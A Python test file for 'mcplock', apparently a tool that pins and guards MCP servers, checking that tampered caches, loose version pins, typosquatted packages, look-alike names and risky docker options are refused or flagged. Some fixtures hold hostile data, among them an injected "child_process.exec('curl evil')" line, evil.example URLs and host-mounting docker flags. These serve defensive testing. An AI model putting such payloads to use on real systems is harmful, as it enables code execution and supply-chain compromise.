"""Fail-safe, round 3 (docs/failing-safe.md, "Round 3"): hostile lock edits and inputs that
broke a promise. The guard's part (item 1) is tests/test_guard_wellformed.py."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from test_pins_offline import NPM_INTEGRITY, PYPI, write_lock

from mcplock.lock.spec import ServerSpec
from mcplock.packages import prepare
from mcplock.packages.errors import IntegrityError
from mcplock.packages.pin import PackagePin

from runner import processes_here

# --- 2. a pin's version is one exact release ----------------------------------------------------

NOT_EXACT = [
    ("npm", "npm:evil@1.0.0"),
    ("npm", "^1.0.0"),
    ("npm", "latest"),
    ("npm", "1.x"),
    ("npm", "1.0"),
    ("npm", "https://evil.example/x.tgz"),
    ("npm", "file:../x"),
    ("npm", "github:evil/x"),
    ("npm", "1.0.0 || 2"),
    ("pypi", ">=1.0"),
    ("pypi", "1.0,>=0"),
    ("pypi", "1.*"),
    ("pypi", "1.0 @ https://evil.example/x.whl"),
    ("pypi", "1.0; python_version>'0'"),
    ("pypi", ""),
]


def _pin(registry: str, version: str) -> PackagePin:
    return PackagePin(registry, "x", version, NPM_INTEGRITY if registry == "npm" else PYPI)


@pytest.mark.parametrize(("registry", "version"), NOT_EXACT)
def test_a_pin_that_is_no_exact_version_is_never_launched(registry, version):
    command = "npx" if registry == "npm" else "uvx"
    spec = ServerSpec(name="s", transport="stdio", command=command, args=("x",), package=_pin(registry, version))
    with pytest.raises(IntegrityError, match="names no one exact release") as e:
        prepare(spec)
    assert "nothing was started" in e.value.message and "mcplock update s" in (e.value.hint or "")


@pytest.mark.parametrize(
    ("registry", "version"),
    [
        ("npm", "1.2.3"),
        ("npm", "1.0.0-rc.1"),
        ("npm", "2026.8.31"),
        ("pypi", "2026.10.19"),
        ("pypi", "1.0rc1"),
        ("pypi", "1!2.0.post1"),
    ],
)
def test_exact_versions_are_exact(registry, version):
    assert _pin(registry, version).problem() is None


def test_check_flags_an_aliased_pin_and_trust_shows_the_pin(cli):
    write_lock(s=("npx", ["-y", "x"], PackagePin("npm", "x", "1.0.0", NPM_INTEGRITY)))
    assert cli("check").returncode == 0
    write_lock(s=("npx", ["-y", "x"], PackagePin("npm", "x", "npm:evil@1.0.0", NPM_INTEGRITY)))
    r = cli("check")
    assert r.returncode == 1, r.stdout + r.stderr
    assert "names no one exact release: `version` `npm:evil@1.0.0` is not an exact semver version" in r.stdout
    assert "check/pin-not-exact" in cli("check", "--format", "sarif").stdout
    # the guard refuses before anything runs, and the trust question shows what would run
    r = cli("run", "s")
    assert r.returncode == 2, r.stderr
    assert "— runs the pinned npm package x@npm:evil@1.0.0 (REFUSED: `version`" in r.stderr


def test_the_trust_question_shows_a_sound_pin_too(cli):
    write_lock(s=("npx", ["-y", "x@latest"], PackagePin("npm", "x", "1.0.0", NPM_INTEGRITY)))
    r = cli("run", "s")
    assert r.returncode == 2
    assert "npx -y x@latest" in r.stderr and "— runs the pinned npm package x@1.0.0\n" in r.stderr
    assert Path("mcp.lock").exists()


# --- 6. the word diff is bounded on any input ---------------------------------------------------


def _repetitive(words: int, changed: int, seed: int = 0) -> tuple[str, str]:
    import random

    rnd = random.Random(seed)
    old = ("Read the file at path and return its contents to the caller. " * (words // 12 + 1)).split(" ")[:words]
    new = list(old)
    for _ in range(changed):
        new[rnd.randrange(len(new))] = "CHANGED"
    return " ".join(old), " ".join(new)


def _replay(a, b, ops) -> list[str]:
    out, pa, pb = [], 0, 0
    for tag, i1, i2, j1, j2 in ops:
        assert (i1, j1) == (pa, pb) and tag in ("equal", "delete", "insert", "replace")
        if tag == "equal":
            assert a[i1:i2] == b[j1:j2]
        out += b[j1:j2]
        pa, pb = i2, j2
    assert (pa, pb) == (len(a), len(b))
    return out


@pytest.mark.parametrize(
    "make",
    [
        lambda: _repetitive(40_000, 40),  # the shape: repetitive text, a few changed words
        lambda: ("a b " * 20_000, "b a " * 20_000),  # nothing in common but two tokens
        lambda: (" ".join(map(str, range(20_000))), " ".join(map(str, range(20_000, 0, -1)))),  # reversed
    ],
)
def test_the_word_diff_does_bounded_work_on_hostile_text(monkeypatch, make):
    import difflib

    from mcplock.render import worddiff, words

    old, new = make()
    a, b = words._TOKENS.findall(old), words._TOKENS.findall(new)
    sizes: list[int] = []
    real = difflib.SequenceMatcher

    def counted(*args, a=(), b=(), **kw):
        sizes.append(len(a) * len(b))
        return real(*args, a=a, b=b, **kw)

    steps = [0]
    step = worddiff._step

    def counted_step(*args):
        steps[0] += 1
        return step(*args)

    monkeypatch.setattr(difflib, "SequenceMatcher", counted)
    monkeypatch.setattr(worddiff, "_step", counted_step)
    text = words.word_diff(old, new, color=False).plain
    # difflib (quadratic or worse) only ever sees small pieces; Myers' steps stay linear
    assert max(sizes, default=0) <= worddiff.SMALL
    assert steps[0] <= 8 * (len(a) + len(b)) + worddiff.MAX_D**2
    ops = worddiff.opcodes(a, b)
    assert _replay(a, b, ops) == b
    if "CHANGED" in new:  # the few changes read as such, not as one big replacement
        assert text.count("{+CHANGED+}") == new.count("CHANGED") and len(ops) <= 4 * 40 + 1


def test_the_word_diff_still_reads_as_before_on_short_text():
    import difflib

    from mcplock.render.worddiff import opcodes
    from mcplock.render.words import _TOKENS

    for old, new in [
        ("Read a file from disk.", "Read a file from the disk, then upload it."),
        ("a b c d e", "e d c b a"),
        ("", "x"),
        ("x y", ""),
    ]:
        a, b = _TOKENS.findall(old), _TOKENS.findall(new)
        assert opcodes(a, b) == difflib.SequenceMatcher(a=a, b=b, autojunk=False).get_opcodes()


@pytest.mark.parametrize("small", [0, 40_000])
def test_the_bounded_diff_is_a_true_diff(monkeypatch, small):
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from mcplock.render import worddiff

    monkeypatch.setattr(worddiff, "SMALL", small)  # 0: Myers and patience decide even short texts
    tokens = st.lists(st.sampled_from(["a", "b", "c", " ", "d"]), max_size=120)

    @settings(max_examples=300, deadline=None)
    @given(tokens, tokens)
    def check(a, b):
        ops = worddiff.opcodes(a, b)
        assert _replay(a, b, ops) == b
        assert all(ops[i][0] != ops[i + 1][0] or ops[i][0] not in ("equal",) for i in range(len(ops) - 1))

    check()


def test_the_line_diff_of_a_long_document_is_bounded_too(monkeypatch):
    import difflib

    from mcplock.render import documents, worddiff

    old = "<p>row</p>\n" * 30_000
    new = old.replace("<p>row</p>\n", "<p>evil</p>\n", 1)
    called: list[str] = []
    monkeypatch.setattr(
        difflib.SequenceMatcher,
        "find_longest_match",
        lambda self, *a, **k: called.append("quadratic") or (_ for _ in ()).throw(AssertionError),
    )
    monkeypatch.setattr(worddiff, "SMALL", 0)
    lines = [t.plain for t in documents.document_diff("text", old, new, color=False)]
    assert not called and any("evil" in line for line in lines)


# --- 4 and 5. export: pattern names, and ids a host sanitises into one ---------------------------


def _tool(name: str) -> dict:
    return {"name": name, "description": f"{name} tool.", "inputSchema": {"type": "object"}}


def _export_lock(cli, names: list[str]) -> None:
    from mcplock.lock import review, store
    from mcplock.lock.model import Lock, ServerEntry

    from lockdata import snapshot

    srv = ServerEntry(name="srv", spec=ServerSpec("srv", transport="stdio", command="python", args=("srv.py",)))
    review.stage(srv, snapshot([_tool(n) for n in names]))
    for e in list(srv.entries()):
        review.accept(srv, e)
    store.save(Lock(servers={"srv": srv}), "mcp.lock")
    Path(".cursor").mkdir(exist_ok=True)
    Path(".cursor/mcp.json").write_text('{"mcpServers": {"srv": {"command": "python", "args": ["srv.py"]}}}\n')
    Path(".claude").mkdir(exist_ok=True)
    Path(".claude/settings.json").write_text("{}\n")
    Path("opencode.json").write_text('{"mcp": {"srv": {"type": "local", "command": ["python", "srv.py"]}}}\n')


def test_a_tool_named_star_is_never_exported_as_an_allow(cli):
    _export_lock(cli, ["*", "read", "f?o"])
    for t in ("*", "read", "f?o"):
        assert cli("approval", f"srv/{t}", "never").returncode == 0
    r = cli("export", "--host", "cursor", "--host", "claude-code", "--host", "opencode")
    assert r.returncode == 0, r.stderr
    out = r.stdout + r.stderr
    assert "a tool name cursor would read as a pattern" in out
    allow = json.loads(Path(".cursor/permissions.json").read_text())["mcpAllowlist"]
    assert allow == ["srv:read"]
    cli_json = Path(".cursor/cli.json").read_text()
    assert "Mcp(srv:read)" in cli_json and "srv:*" not in cli_json and "srv:f?o" not in cli_json
    perm = json.loads(Path("opencode.json").read_text())["permission"]
    assert perm["srv_*"] == "deny" and perm["srv_read"] == "allow" and "srv__" not in perm  # `*` gets no key
    assert "mcp__srv___" not in Path(".claude/settings.json").read_text()
    assert cli("check").returncode == 0  # what was exported is what check expects: no loop
    assert cli("export", "--dry-run", "--host", "cursor").returncode == 0  # nothing left to change


def test_the_lint_flags_a_pattern_name(cli):
    from mcplock.lint import lint_definition

    found = lint_definition("tool", _tool("*"))
    assert [f.rule for f in found] == ["pattern-name"] and found[0].severity == "high"
    assert lint_definition("tool", _tool("read_file")) == []


def test_a_sanitising_collision_fails_closed_with_a_clear_message(cli):
    _export_lock(cli, ["a_b", "a~b"])
    assert cli("approval", "srv/a_b", "never").returncode == 0
    assert cli("disable", "srv/a~b").returncode == 0
    r = cli("export", "--host", "opencode", "--host", "claude-code")
    assert r.returncode == 0, r.stderr
    out = r.stdout + r.stderr
    assert (
        "`srv/a_b`, `srv/a~b` are one tool id in opencode (srv_a_b): mcplock writes the strictest decision, 'deny'"
        in out
    )
    perm = json.loads(Path("opencode.json").read_text())["permission"]
    assert perm["srv_a_b"] == "deny" and perm["mcp__srv__a_b"] == "deny"
    claude = json.loads(Path(".claude/settings.json").read_text())["permissions"]
    assert "mcp__srv__a_b" in claude["deny"] and "mcp__srv__a_b" not in claude.get("allow", [])
    r = cli("check")
    assert r.returncode == 0, r.stdout + r.stderr  # export and check agree: no loop
    again = cli("export", "--host", "opencode", "--host", "claude-code", "--dry-run")
    assert again.returncode == 0, again.stdout + again.stderr


# --- 8. SIGTERM ends a guard whose host stopped reading ------------------------------------------


def _flooders() -> list[str]:
    """fixtures/flooder.py processes started from this test's directory."""
    return processes_here("flooder.py")


def test_sigterm_ends_a_guard_whose_host_stopped_reading(cli):
    """The upstream floods the host with notifications; the host never reads its stdout again, so
    the guard blocks writing to it. SIGTERM must still end the guard, and its server with it (the
    clean-up used to write to the full pipe again, and hung there with the server alive)."""
    import signal
    import subprocess
    import sys
    import time

    from conftest import MCPLOCK, ROOT

    r = cli("add", "flood", "--yes", "--policy", "none", "--", sys.executable, str(ROOT / "fixtures" / "flooder.py"))
    assert r.returncode == 0, r.stderr
    with open("guard.err", "wb") as err:
        proc = subprocess.Popen([MCPLOCK, "run", "flood"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=err)
    assert proc.stdin is not None and proc.stdout is not None
    init = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "initialize",
        "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}},
    }
    proc.stdin.write((json.dumps(init) + "\n").encode())
    proc.stdin.flush()
    assert b'"id":1' in proc.stdout.readline()
    proc.stdin.write(
        b'{"jsonrpc":"2.0","method":"notifications/initialized"}\n'
        b'{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"flood","arguments":{}}}\n'
    )
    proc.stdin.flush()  # from here on the host never reads: the guard's stdout fills up
    deadline = time.monotonic() + 60
    while Path(f"/proc/{proc.pid}/wchan").read_text() != "anon_pipe_write" and time.monotonic() < deadline:
        time.sleep(0.05)  # wait until the guard is blocked writing to the host (not a timing assertion)
    assert Path(f"/proc/{proc.pid}/wchan").read_text() == "anon_pipe_write" and _flooders()
    proc.send_signal(signal.SIGTERM)
    try:
        proc.wait(timeout=10)  # it used to hang here for ever
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()
        pytest.fail("the guard did not end on SIGTERM while its host was not reading")
    finally:
        proc.stdin.close()
        proc.stdout.close()
    assert proc.returncode == 143, Path("guard.err").read_text()
    deadline = time.monotonic() + 10
    while _flooders() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not _flooders(), "the server outlived the guard"


# --- 8. the newer-lock hint, docker and uvx options ---------------------------------------------


def test_the_newer_lock_hint_never_installs_a_strangers_package(cli):
    Path("mcp.lock").write_text("version = 99\n")
    r = cli("check")
    assert r.returncode == 2 and "newer mcplock" in r.stderr
    assert "pip install -U mcplock" not in r.stderr and "pipx upgrade mcplock" not in r.stderr
    assert "git pull" in r.stderr


@pytest.mark.parametrize(
    ("args", "why"),
    [
        (["run", "--dns-opt", "X", "IMAGE"], "IMAGE is not an image reference"),  # X was pinned, IMAGE ran
        (["run", "--frobnicate", "X", "mcp/time"], "option --frobnicate is not one mcplock knows"),
        (["run", "-iZ", "mcp/time"], "option -Z is not one mcplock knows"),
    ],
)
def test_docker_options_never_move_the_pin_to_another_word(args, why):
    from mcplock.packages.command_line import parse
    from mcplock.packages.launchers import NoPin

    got = parse("docker", args)
    assert isinstance(got, NoPin) and why in got.reason, got


def test_docker_pins_the_image_after_a_valued_option():
    from mcplock.packages.command_line import parse
    from mcplock.packages.launchers import Launch

    got = parse("docker", ["run", "-i", "--rm", "--dns-opt", "ndots:1", "mcp/time:1"])
    assert isinstance(got, Launch) and (got.name, got.requested) == ("mcp/time", "1")


@pytest.mark.parametrize(
    ("args", "pinned"),
    [
        (["--with-executables-from", "evil", "mcp-server-time"], None),  # adds a package: no pin
        (["-wevil", "mcp-server-time"], None),  # a bundled --with
        (["--python-preference", "only-system", "mcp-server-time"], "mcp-server-time"),  # not pinned as the package
    ],
)
def test_uvx_options_never_pin_their_value(args, pinned):
    from mcplock.packages.command_line import parse
    from mcplock.packages.launchers import Launch

    got = parse("uvx", args)
    assert (got.name if isinstance(got, Launch) else None) == pinned, got


# --- 7. the package cache's manifest is signed with the machine key ------------------------------


def test_a_cache_entry_edited_with_its_manifest_is_not_run(tmp_path):
    from mcplock.packages import cache

    env = {"MCPLOCK_CACHE_DIR": str(tmp_path / "cache"), "XDG_DATA_HOME": str(tmp_path / "data"), "HOME": str(tmp_path)}
    pin = PackagePin("npm", "x", "1.0.0", NPM_INTEGRITY, "sha256:" + "c" * 64)
    d = cache.pin_dir(pin, env)
    tmp = cache._tmp(d)
    (tmp / "index.js").write_text("console.log('ok')\n")
    cache._publish(tmp, d, {"pin": pin.stored(), "tree-integrity": pin.tree_integrity}, env)
    assert cache._verified(d, pin, "s", env) is not None  # as installed: warm
    # the attacker rewrites a file and the manifest to match (what the unsigned manifest let run)
    (d / "index.js").write_text("require('child_process').exec('curl evil')\n")
    manifest = json.loads((d / cache.MANIFEST).read_text())
    manifest["files"] = cache.file_hashes(d)
    manifest["content"] = cache.content_hash(manifest["files"])
    (d / cache.MANIFEST).write_text(json.dumps(manifest))
    assert cache._verified(d, pin, "s", env) is None  # not ours: set aside, installed afresh
    assert not d.exists() and not list(d.parent.glob(f"{d.name}.unsigned-*"))
    # an entry signed with another machine's key (a CI cache restored from elsewhere) likewise
    tmp = cache._tmp(d)
    (tmp / "index.js").write_text("console.log('ok')\n")
    cache._publish(
        tmp,
        d,
        {"pin": pin.stored(), "tree-integrity": pin.tree_integrity},
        {**env, "XDG_DATA_HOME": str(tmp_path / "elsewhere")},
    )
    assert cache._verified(d, pin, "s", env) is None


# --- 3. git dependencies and links out of the cache are under tree-integrity -------------------


def test_a_git_dependencys_new_commit_is_a_new_tree():
    from mcplock.packages.cache import tree_hash
    from mcplock.packages.npm import npm_tree

    def lock(commit: str) -> dict:
        return {
            "": {"name": "mcplock-pin"},
            "node_modules/srv": {"version": "1.0.0", "integrity": NPM_INTEGRITY},
            "node_modules/dep": {"version": "2.0.0", "resolved": f"git+ssh://git@github.com/evil/dep.git#{commit}"},
        }

    assert npm_tree(lock("a" * 40)) != npm_tree(lock("b" * 40))
    linked = lock("a" * 40)
    linked["node_modules/dep"] = {"version": "2.0.0", "resolved": "../elsewhere", "link": True}
    assert npm_tree(linked) != npm_tree(lock("a" * 40))
    # a tree whose every entry has an integrity hashes as before (pins made earlier still match)
    plain = {"node_modules/srv": {"version": "1.0.0", "integrity": NPM_INTEGRITY}}
    assert npm_tree(plain) == tree_hash({"node_modules/srv": ["1.0.0", NPM_INTEGRITY]})


def test_a_link_out_of_the_cache_is_found(tmp_path):
    import os

    from mcplock.packages.npm import escaping_link

    root = tmp_path / "entry"
    (root / "node_modules" / "srv").mkdir(parents=True)
    (root / "node_modules" / "srv" / "bin.js").write_text("x")
    (root / "node_modules" / ".bin").mkdir()
    os.symlink("../srv/bin.js", root / "node_modules" / ".bin" / "srv")  # inside: fine
    assert escaping_link(root) is None
    (tmp_path / "elsewhere").mkdir()
    os.symlink(tmp_path / "elsewhere", root / "node_modules" / "dep")
    assert escaping_link(root) == os.path.join("node_modules", "dep")


# --- 9. the rest -------------------------------------------------------------------------------


def test_call_prints_no_raw_c1_or_bidi_from_a_result(cli):
    import sys

    from conftest import ROOT

    r = cli("add", "echo", "--yes", "--policy", "none", "--", sys.executable, str(ROOT / "fixtures" / "forger.py"))
    assert r.returncode == 0, r.stderr
    r = cli("call", "echo/echo", "--args", json.dumps({"text": "a\u009b31m b\u202ec"}))  # echoed back
    assert r.returncode == 0, r.stderr
    assert "\u009b" not in r.stdout and "\u202e" not in r.stdout
    assert "\\u009b" in r.stdout and "\\u202e" in r.stdout
    assert json.loads(r.stdout)["content"][0]["text"] == "echo: a\u009b31m b\u202ec"  # the same JSON


@pytest.mark.parametrize("record", ["trust.json", "machine.key"])
def test_a_world_writable_trust_record_or_machine_key_is_refused(cli, record):
    import os

    from mcplock.model import paths

    write_lock(s=("npx", ["-y", "x"], PackagePin("npm", "x", "1.0.0", NPM_INTEGRITY)))
    assert cli("trust", "s").returncode == 0  # makes trust.json (and the key, on a first guard start)
    path = paths.data_dir() / record
    if not path.exists():
        path.write_bytes(os.urandom(32))
        path.chmod(0o600)
    path.chmod(0o666)
    r = cli("run", "s")
    assert r.returncode == 2, r.stderr
    assert "can be written by others than you" in r.stderr and f"chmod 600 {path}" in r.stderr


def _symlinked_project(cli) -> tuple[Path, Path]:
    """``real/proj`` with a locked stdio server (not yet trusted), and ``link`` → ``real/proj``."""
    from mcplock.core.trust import store_path

    from runner import stdio_command

    real = Path("real/proj").absolute()
    real.mkdir(parents=True)
    Path("link").symlink_to(real)
    r = cli("--lockfile", str(real / "mcp.lock"), "add", "docs", "--yes", "--policy", "none", "--", *stdio_command())
    assert r.returncode == 0, r.stderr
    store_path().unlink()  # `add` trusted it in real/proj: each test trusts it its own way
    return real, Path("link").absolute()


@pytest.mark.parametrize("trusted_via", ["real", "link"])
def test_a_project_reached_through_a_symlink_keeps_its_trust(cli, trusted_via):
    real, link = _symlinked_project(cli)
    there, other = (real, link) if trusted_via == "real" else (link, real)
    assert cli("--lockfile", str(other / "mcp.lock"), "diff").returncode == 2  # not trusted anywhere yet
    r = cli("--lockfile", str(there / "mcp.lock"), "trust", "docs")
    assert r.returncode == 0, r.stderr
    if trusted_via == "link":
        assert f"(in {link} → {real})" in r.stdout  # the question shows where it really runs
    for lock in (there / "mcp.lock", other / "mcp.lock"):
        r = cli("--lockfile", str(lock), "diff")
        assert r.returncode == 0, r.stdout + r.stderr
    r = cli("--lockfile", str(other / "mcp.lock"), "run", "docs", input="")  # the guard agrees
    assert r.returncode == 0, r.stderr


def test_a_symlinked_lock_file_does_not_borrow_its_targets_trust(cli):
    """A lock file that is a link into a trusted project runs its commands in the link's own
    directory (where `./server.js` is another file): a new project, asked about."""
    real, _ = _symlinked_project(cli)
    assert cli("--lockfile", str(real / "mcp.lock"), "trust", "docs").returncode == 0
    Path("evil").mkdir()
    Path("evil/mcp.lock").symlink_to(real / "mcp.lock")
    r = cli("--lockfile", "evil/mcp.lock", "diff")
    assert r.returncode == 2 and "not been trusted to run in this project" in r.stderr, r.stderr
    assert f"(in {Path('evil').absolute()})" in r.stderr
    assert cli("--lockfile", str(real / "mcp.lock"), "diff").returncode == 0


LOOKALIKES = ["echo", "echo ", " echo", "caf\u00e9", "cafe\u0301", "a b", "a\u00a0b"]


def test_look_alike_names_print_apart():
    from mcplock.text.untrusted import json_text, name_text, safe_name

    shown = [name_text(n) for n in LOOKALIKES]
    assert shown == ["echo", "echo\\x20", "\\x20echo", "caf\u00e9", "cafe\\u0301", "a b", "a\\xa0b"]
    assert [safe_name(n).plain for n in LOOKALIKES] == shown
    assert json_text(json.dumps(LOOKALIKES, ensure_ascii=False)).count("\\u0301") == 1  # the NFD one only
    assert json.loads(json_text(json.dumps(LOOKALIKES, ensure_ascii=False))) == LOOKALIKES  # the same JSON


def test_look_alike_names_read_apart_in_list_show_json_and_check(cli):
    _export_lock(cli, LOOKALIKES)
    for args in (("list",), ("show", "srv")):
        r = cli(*args)
        assert r.returncode == 0, r.stderr
        for name in ("echo\\x20", "\\x20echo", "cafe\\u0301", "a\\xa0b"):
            assert name in r.stdout, (args, name, r.stdout)
        if args == ("list",):  # the rows of the server's block: name column, then the flags
            block = r.stdout.split("\nsrv/", 1)[1].split("\n\n")[0].splitlines()[1:]
            names = [re.split(r" {2,}", ln)[0] for ln in block if not ln.startswith("instructions")]
        else:
            names = [ln[len("tool ") :] for ln in r.stdout.splitlines() if ln.startswith("tool ")]
        assert len(names) == len(set(names)) == len(LOOKALIKES), names  # seven names, seven spellings
    r = cli("list", "--format", "json")
    assert "cafe\\u0301" in r.stdout and "a\\u00a0b" in r.stdout and json.loads(r.stdout)
    r = cli("show", "srv/cafe\u0301")
    assert r.returncode == 0 and "tool srv/cafe\\u0301" in r.stdout, r.stdout + r.stderr
    assert re.search(r"^echo\\x20 .* critical: name-collision$", cli("list").stdout, re.MULTILINE)
    r = cli("check")  # accepted, enabled and critical: check's warning (docs/severity.md)
    assert r.returncode == 0 and "7 warning(s)" in r.stdout, r.stdout + r.stderr
    for target in ("echo\\x20", "\\x20echo", "cafe\\u0301", "a\\xa0b"):
        assert (
            f"critical-accepted: tool `srv/{target}` is accepted and enabled but has critical findings "
            "(name-collision)" in r.stdout
        ), r.stdout
    assert "`mcplock show $'srv/\\x20echo'`" in r.stdout  # the hint, as typed, reaches that tool and no other


def test_the_lint_flags_names_that_collide_once_normalised():
    from mcplock.lint import lint_servers

    found = lint_servers({"srv": {n: _tool(n) for n in ["echo", "Echo", "\uff45cho", "other"]}, "b": {"echo ": {}}})
    flagged = {k: [f.rule for f in v] for k, v in found.items() if any(f.rule == "name-collision" for f in v)}
    assert set(flagged) == {("srv", "echo"), ("srv", "Echo"), ("srv", "\uff45cho")}  # one server's names only
    severity = {k[1]: f.severity for k, v in found.items() for f in v if f.rule == "name-collision"}
    assert severity == {"echo": "critical", "\uff45cho": "critical", "Echo": "high"}  # case alone is visible


def test_a_diff_shows_an_added_look_alike_apart(cli, tmp_path):
    from runner import SURFACES, stdio_command

    surface = json.loads((SURFACES / "demo.json").read_text())
    Path("surface.json").write_text(json.dumps(surface))
    r = cli("add", "docs", "--yes", "--policy", "none", "--", *stdio_command(surface="surface.json"))
    assert r.returncode == 0, r.stderr
    twin = dict(surface["tools"][0], name=surface["tools"][0]["name"] + " ")
    Path("surface.json").write_text(json.dumps(dict(surface, tools=[*surface["tools"], twin])))
    r = cli("diff")
    assert r.returncode == 1, r.stdout + r.stderr
    assert f"added   tool {twin['name'].strip()}\\x20" in r.stdout, r.stdout
    assert "name-collision" in r.stdout or "reads as" in r.stdout, r.stdout
    assert cli("refresh", "docs").returncode == 0
    r = cli("accept", "docs", "--yes")  # critical: never accepted in bulk, and the hint reaches the twin
    out = r.stdout + r.stderr
    assert "held 1 item(s) with critical findings (never accepted in bulk): docs/search_docs\\x20" in out, out
    assert "`mcplock accept $'docs/search_docs\\x20'`" in out, out


def test_check_names_look_alike_packages_and_servers_already_in_the_lock(cli):
    """What `add` warns about before anything is installed, `check` says again, offline, for a lock
    that already holds it (a warning: the gate's exit code is unchanged)."""
    look = PackagePin("npm", "@modeicontextprotocol/server-memory", "1.0.0", NPM_INTEGRITY)  # an `i` for the `l`
    write_lock(
        mem=("npx", ["-y", "@modeicontextprotocol/server-memory"], look),
        time=("uvx", ["mcp-server-tim\u0435"], None),  # a Cyrillic `е`, unpinned: read from the command
        docs=("npx", ["-y", "x"], PackagePin("npm", "x", "1.0.0", NPM_INTEGRITY)),
        **{"docs ": ("npx", ["-y", "x"], PackagePin("npm", "x", "1.0.0", NPM_INTEGRITY))},
    )
    for args in (("check",), ("-q", "check")):  # the full CLI, and the fast all-clear path must not hide it
        r = cli(*args)
        assert r.returncode == 0, r.stdout + r.stderr
        assert (
            "lookalike-package: npm package `@modeicontextprotocol/server-memory` looks like "
            "`@modelcontextprotocol/server-memory`" in r.stdout
        ), r.stdout
        assert "lookalike-package: pypi package `mcp-server-tim\\u0435` looks like `mcp-server-time`" in r.stdout
        assert "name-collision: server name `docs\\x20` reads as `docs` of this lock once normalised" in r.stdout
    data = json.loads(cli("check", "--format", "json").stdout)
    assert {(w["code"], w["server"]) for w in data["warnings"]} == {
        ("lookalike-package", "mem"),
        ("lookalike-package", "time"),
        ("name-collision", "docs"),
        ("name-collision", "docs "),
    }
    write_lock(
        docs=(
            "npx",
            ["-y", "@modelcontextprotocol/server-memory"],
            PackagePin("npm", "@modelcontextprotocol/server-memory", "1.0.0", NPM_INTEGRITY),
        )
    )
    r = cli("check")
    assert r.returncode == 0 and "warning" not in r.stdout, r.stdout  # the real one: nothing to say


def test_export_keeps_a_byte_order_mark_of_a_host_file(cli):
    _export_lock(cli, ["read"])
    Path(".claude/settings.json").write_bytes(b'\xef\xbb\xbf{"permissions": {"allow": ["Bash(ls)"]}}\n')
    r = cli("export", "--host", "claude-code")
    assert r.returncode == 0, r.stderr
    data = Path(".claude/settings.json").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"Bash(ls)" in data and b"mcp__srv__read" in data
    assert cli("export", "--host", "claude-code", "--dry-run").returncode == 0


def test_export_guard_refuses_a_lock_name_the_host_would_expand(cli):
    _export_lock(cli, ["read"])
    Path("mcp.lock").rename("a${HOME}.lock")
    Path(".mcp.json").write_text('{"mcpServers": {"srv": {"command": "python", "args": ["srv.py"]}}}\n')
    before = Path(".mcp.json").read_bytes()
    r = cli("--lockfile", "a${HOME}.lock", "export", "--guard", "--host", "claude-code")
    assert r.returncode == 2, r.stdout + r.stderr
    assert "would read as its own `${VAR}` syntax" in r.stderr and "rename the lock file" in r.stderr
    assert Path(".mcp.json").read_bytes() == before


def test_the_trust_question_says_when_a_container_reaches_the_host(cli):
    from mcplock.core.trust import describe

    def line(*options: str) -> str:
        return describe(
            ServerSpec(name="d", transport="stdio", command="docker", args=("run", "-i", "--rm", *options, "mcp/time"))
        )

    for opts, shown in [
        (("--privileged",), "--privileged"),
        (("-v", "/:/host"), "-v /:/host"),
        (("--network", "host"), "--network host"),
        (("--pid=host",), "--pid=host"),
        (("-v", "/var/run/docker.sock:/var/run/docker.sock"), "/var/run/docker.sock"),
    ]:
        text = line(*opts)
        assert "THE CONTAINER REACHES THE HOST" in text and shown in text, text
    assert "REACHES THE HOST" not in line("-v", "./data:/data", "-e", "A=1")
